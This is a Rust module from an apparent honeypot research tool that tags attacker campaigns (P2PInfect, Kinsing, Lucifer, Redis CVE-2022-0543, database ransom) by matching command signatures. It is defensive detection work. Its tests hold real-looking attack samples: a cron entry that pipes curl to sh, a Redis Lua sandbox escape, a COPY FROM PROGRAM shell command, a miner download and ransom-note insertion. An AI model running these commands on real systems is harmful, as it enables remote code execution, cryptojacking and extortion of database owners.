//! Campaign tagging (§6.1–§6.3, Table 9).
//!
//! "For those clusters that contained actions of particular interest, we
//! manually assigned descriptive tags, such as 'bruteforce', known botnet
//! names, or malware identifiers, based on recognizable commands or files
//! associated with the attacks." This module encodes those recognitions as
//! rules over the raw command stream of each source.

use crate::frame::{FrameKindRef, FrameView};
use decoy_store::Dbms;
use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

/// The campaigns of Table 9 (plus brute-force, which the paper tags too).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum CampaignTag {
    /// P2PInfect worm via Redis (Listing 1).
    P2pInfect,
    /// ABCbot loader via Redis (Listing 2).
    AbcBot,
    /// CVE-2022-0543 Lua sandbox escape in Redis (Listing 3).
    RedisCve20220543,
    /// Kinsing cryptojacking via PostgreSQL `COPY FROM PROGRAM` (Listing 4).
    Kinsing,
    /// Lucifer/Rudedevil cryptominer via Elasticsearch scripts (Listings 5–6).
    Lucifer,
    /// MongoDB data theft + ransom notes (Listings 7–8).
    MongoRansom,
    /// PostgreSQL privilege manipulation (Listing 13).
    PrivilegeManipulation,
    /// Credential brute-forcing.
    BruteForce,
    /// RDP service scan on a database port (Listing 10).
    RdpScan,
    /// JDWP handshake probe (Listing 11).
    JdwpScan,
    /// VMware vSphere SOAP recon, CVE-2021-22005 (Listing 12).
    VmwareRecon,
    /// Craft CMS CVE-2023-41892 probe (Listing 14).
    CraftCmsProbe,
}

impl CampaignTag {
    /// Stable tag label.
    pub fn label(&self) -> &'static str {
        match self {
            CampaignTag::P2pInfect => "p2pinfect",
            CampaignTag::AbcBot => "abcbot",
            CampaignTag::RedisCve20220543 => "cve-2022-0543",
            CampaignTag::Kinsing => "kinsing",
            CampaignTag::Lucifer => "lucifer",
            CampaignTag::MongoRansom => "ransom",
            CampaignTag::PrivilegeManipulation => "privilege-manipulation",
            CampaignTag::BruteForce => "bruteforce",
            CampaignTag::RdpScan => "rdp-scan",
            CampaignTag::JdwpScan => "jdwp-scan",
            CampaignTag::VmwareRecon => "vmware-recon",
            CampaignTag::CraftCmsProbe => "craftcms-probe",
        }
    }

    /// Table 9 category for this campaign.
    pub fn category(&self) -> AttackCategory {
        match self {
            CampaignTag::RdpScan
            | CampaignTag::JdwpScan
            | CampaignTag::VmwareRecon
            | CampaignTag::CraftCmsProbe => AttackCategory::UnrelatedServiceScan,
            CampaignTag::BruteForce | CampaignTag::PrivilegeManipulation => {
                AttackCategory::AttackOnDbms
            }
            CampaignTag::MongoRansom => AttackCategory::AttackOnData,
            CampaignTag::P2pInfect
            | CampaignTag::AbcBot
            | CampaignTag::RedisCve20220543
            | CampaignTag::Kinsing
            | CampaignTag::Lucifer => AttackCategory::AttackOnSystem,
        }
    }
}

/// The four rows of Table 9.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackCategory {
    /// Scans for services unrelated to the DBMS.
    UnrelatedServiceScan,
    /// Direct attacks on the DBMS.
    AttackOnDbms,
    /// Attacks on the data in the DBMS.
    AttackOnData,
    /// Use of the DBMS to compromise the underlying system.
    AttackOnSystem,
}

impl AttackCategory {
    /// Table label.
    pub fn label(&self) -> &'static str {
        match self {
            AttackCategory::UnrelatedServiceScan => "Scans for Services Unrelated to the DBMS",
            AttackCategory::AttackOnDbms => "Attacks on the DBMS",
            AttackCategory::AttackOnData => "Attacks on the Data in the DBMS",
            AttackCategory::AttackOnSystem => "Attacks on the underlying system",
        }
    }
}

/// Everything observed from one source on one DBMS, prepared for tagging.
/// Strings borrow the frame's string table.
#[derive(Debug, Clone, Default)]
pub struct SourceActivity<'a> {
    /// Raw commands in order.
    pub raws: Vec<&'a str>,
    /// Recognized foreign-payload labels.
    pub foreign: Vec<&'a str>,
    /// Number of login attempts.
    pub login_attempts: usize,
    /// Distinct (username, password) pairs attempted.
    pub distinct_credentials: usize,
}

/// Tag one source's activity. Multiple tags are possible (e.g. a Kinsing
/// bot that also brute-forced its way in).
pub fn tag_activity(activity: &SourceActivity<'_>) -> Vec<CampaignTag> {
    let mut tags = Vec::new();
    let joined = activity.raws.join("\n").to_lowercase();

    if joined.contains("exp.so") || joined.contains("system.exec") {
        tags.push(CampaignTag::P2pInfect);
    }
    if joined.contains("ff.sh") {
        tags.push(CampaignTag::AbcBot);
    }
    if joined.contains("loadlib") || (joined.contains("eval") && joined.contains("luaopen")) {
        tags.push(CampaignTag::RedisCve20220543);
    }
    if joined.contains("from program") {
        tags.push(CampaignTag::Kinsing);
    }
    if joined.contains("sss6") || joined.contains("sv6") || joined.contains("runtime.getruntime") {
        tags.push(CampaignTag::Lucifer);
    }
    // ransom kill chain: enumerate + destroy + leave a note. The note can
    // arrive as a Mongo `insert` or (CouchDB extension) an HTTP `PUT` whose
    // body carries the payment demand.
    let dropped =
        joined.contains("drop ") || joined.contains("dropdatabase") || joined.contains("delete /");
    let inserted =
        joined.contains("insert ") || (joined.contains("put /") && joined.contains("btc"));
    if dropped && inserted {
        tags.push(CampaignTag::MongoRansom);
    }
    if joined.contains("alter user") || joined.contains("alter role") {
        tags.push(CampaignTag::PrivilegeManipulation);
    }
    // brute force: multiple distinct credential guesses
    if activity.distinct_credentials >= 2 || activity.login_attempts >= 3 {
        tags.push(CampaignTag::BruteForce);
    }
    for &label in &activity.foreign {
        let tag = match label {
            "rdp-scan" => Some(CampaignTag::RdpScan),
            "jdwp-scan" => Some(CampaignTag::JdwpScan),
            "vmware-recon" => Some(CampaignTag::VmwareRecon),
            "craftcms-probe" => Some(CampaignTag::CraftCmsProbe),
            _ => None,
        };
        if let Some(tag) = tag {
            if !tags.contains(&tag) {
                tags.push(tag);
            }
        }
    }
    // VMware/CraftCMS probes can also arrive as HTTP commands
    if joined.contains("retrieveservicecontent") && !tags.contains(&CampaignTag::VmwareRecon) {
        tags.push(CampaignTag::VmwareRecon);
    }
    if joined.contains("conditions/render") && !tags.contains(&CampaignTag::CraftCmsProbe) {
        tags.push(CampaignTag::CraftCmsProbe);
    }
    tags
}

/// One source's [`SourceActivity`] under construction: the activity plus
/// the distinct credential pairs it counts, folded one event at a time.
#[derive(Debug, Clone, Default)]
pub(crate) struct ActivityFold<'a> {
    activity: SourceActivity<'a>,
    credentials: BTreeSet<(&'a str, &'a str)>,
}

impl<'a> ActivityFold<'a> {
    /// Fold one of the source's events in, borrowing the frame's strings
    /// instead of cloning them.
    pub(crate) fn push(&mut self, kind: FrameKindRef<'a>) {
        match kind {
            FrameKindRef::Command { raw, .. } => self.activity.raws.push(raw),
            FrameKindRef::LoginAttempt {
                username, password, ..
            } => {
                self.activity.login_attempts += 1;
                self.credentials.insert((username, password));
            }
            FrameKindRef::Payload {
                recognized: Some(label),
                ..
            } => self.activity.foreign.push(label),
            _ => {}
        }
    }

    /// The finished activity.
    pub(crate) fn finish(self) -> SourceActivity<'a> {
        SourceActivity {
            distinct_credentials: self.credentials.len(),
            ..self.activity
        }
    }
}

/// Collect [`SourceActivity`] per source for one DBMS family.
pub fn collect_activity(
    view: FrameView<'_>,
    dbms: Option<Dbms>,
) -> BTreeMap<IpAddr, SourceActivity<'_>> {
    let mut folds: BTreeMap<IpAddr, ActivityFold<'_>> = BTreeMap::new();
    for event in view.events_of(dbms) {
        folds
            .entry(view.src(event))
            .or_default()
            .push(view.kind(event));
    }
    folds
        .into_iter()
        .map(|(src, fold)| (src, fold.finish()))
        .collect()
}

/// Tag every source seen in `view` on `dbms`. This is the per-address
/// reference fold; the report reads the tags
/// [`BehaviorTable`](crate::behavior::BehaviorTable) derives per source id.
pub fn tag_sources(view: FrameView<'_>, dbms: Option<Dbms>) -> BTreeMap<IpAddr, Vec<CampaignTag>> {
    collect_activity(view, dbms)
        .into_iter()
        .map(|(src, activity)| (src, tag_activity(&activity)))
        .filter(|(_, tags)| !tags.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn activity<'a>(raws: &[&'a str]) -> SourceActivity<'a> {
        SourceActivity {
            raws: raws.to_vec(),
            ..Default::default()
        }
    }

    #[test]
    fn p2pinfect_signature() {
        let a = activity(&[
            "CONFIG SET dbfilename exp.so",
            "SLAVEOF 198.51.100.1 8886",
            "MODULE LOAD /tmp/exp.so",
            "system.exec rm -rf /tmp/exp.so",
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::P2pInfect));
    }

    #[test]
    fn abcbot_signature() {
        let a = activity(&["SET backup1 */2 * * * * curl http://198.51.100.2:8080/ff.sh | sh"]);
        let tags = tag_activity(&a);
        assert!(tags.contains(&CampaignTag::AbcBot));
        assert!(!tags.contains(&CampaignTag::P2pInfect));
    }

    #[test]
    fn redis_cve_signature() {
        let a = activity(&[
            r#"EVAL local io_l = package.loadlib("/usr/lib/liblua5.1.so.0", "luaopen_io"); local io = io_l(); io.popen("id") 0"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::RedisCve20220543));
    }

    #[test]
    fn kinsing_and_privilege_signatures() {
        let a = activity(&[
            "COPY deadbeef FROM PROGRAM 'echo x | base64 -d | bash'",
            "ALTER USER postgres WITH NOSUPERUSER",
        ]);
        let tags = tag_activity(&a);
        assert!(tags.contains(&CampaignTag::Kinsing));
        assert!(tags.contains(&CampaignTag::PrivilegeManipulation));
    }

    #[test]
    fn lucifer_signature() {
        let a = activity(&[
            r#"POST /_search {"script_fields":{"exp":{"script":"Runtime.getRuntime().exec('curl -o /tmp/sss6 http://x/sss6')"}}}"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::Lucifer));
    }

    #[test]
    fn ransom_requires_drop_and_insert() {
        let full = activity(&[
            "listDatabases",
            "find prod.users",
            "drop prod.users",
            "insert prod.README",
        ]);
        assert!(tag_activity(&full).contains(&CampaignTag::MongoRansom));
        let read_only = activity(&["listDatabases", "find prod.users"]);
        assert!(!tag_activity(&read_only).contains(&CampaignTag::MongoRansom));
    }

    #[test]
    fn couch_ransom_variant_is_tagged() {
        let a = activity(&[
            "GET /_all_dbs",
            "GET /customers/_all_docs",
            "DELETE /customers",
            r#"PUT /warning/readme {"note":"send 0.01 BTC to recover"}"#,
        ]);
        assert!(tag_activity(&a).contains(&CampaignTag::MongoRansom));
    }

    #[test]
    fn bruteforce_thresholds() {
        let mut a = SourceActivity {
            login_attempts: 1,
            distinct_credentials: 1,
            ..Default::default()
        };
        assert!(tag_activity(&a).is_empty());
        a.distinct_credentials = 2;
        a.login_attempts = 2;
        assert_eq!(tag_activity(&a), vec![CampaignTag::BruteForce]);
        // single credential retried many times still counts (PG §5 behavior
        // is excluded: those try once or repeat the same pair < 3 times)
        let hammer = SourceActivity {
            login_attempts: 50,
            distinct_credentials: 1,
            ..Default::default()
        };
        assert_eq!(tag_activity(&hammer), vec![CampaignTag::BruteForce]);
    }

    #[test]
    fn foreign_probe_tags() {
        let a = SourceActivity {
            foreign: vec!["rdp-scan", "jdwp-scan", "rdp-scan"],
            ..Default::default()
        };
        let tags = tag_activity(&a);
        assert_eq!(tags, vec![CampaignTag::RdpScan, CampaignTag::JdwpScan]);
    }

    #[test]
    fn categories_match_table9() {
        assert_eq!(
            CampaignTag::RdpScan.category(),
            AttackCategory::UnrelatedServiceScan
        );
        assert_eq!(
            CampaignTag::BruteForce.category(),
            AttackCategory::AttackOnDbms
        );
        assert_eq!(
            CampaignTag::MongoRansom.category(),
            AttackCategory::AttackOnData
        );
        for t in [
            CampaignTag::P2pInfect,
            CampaignTag::AbcBot,
            CampaignTag::Kinsing,
            CampaignTag::Lucifer,
            CampaignTag::RedisCve20220543,
        ] {
            assert_eq!(t.category(), AttackCategory::AttackOnSystem);
        }
    }

    #[test]
    fn collect_activity_counts_credentials() {
        use decoy_base::time::EXPERIMENT_START;
        use decoy_store::{
            ConfigVariant, Event, EventKind, EventStore, HoneypotId, InteractionLevel,
        };
        let store = EventStore::new();
        let src: IpAddr = "198.18.5.5".parse().unwrap();
        for (u, p) in [("sa", "123"), ("sa", "123456"), ("sa", "123")] {
            store.log(Event {
                ts: EXPERIMENT_START,
                honeypot: HoneypotId::new(
                    Dbms::Mssql,
                    InteractionLevel::Low,
                    ConfigVariant::MultiService,
                    0,
                ),
                src,
                session: 1,
                kind: EventKind::LoginAttempt {
                    username: u.into(),
                    password: p.into(),
                    success: false,
                },
            });
        }
        let frame = crate::frame::AnalysisFrame::build(&store, &decoy_geo::GeoDb::builtin());
        let view = frame.view(crate::frame::Partition::All);
        let acts = collect_activity(view, Some(Dbms::Mssql));
        assert_eq!(acts[&src].login_attempts, 3);
        assert_eq!(acts[&src].distinct_credentials, 2);
        let tags = tag_sources(view, Some(Dbms::Mssql));
        assert_eq!(tags[&src], vec![CampaignTag::BruteForce]);
    }
}
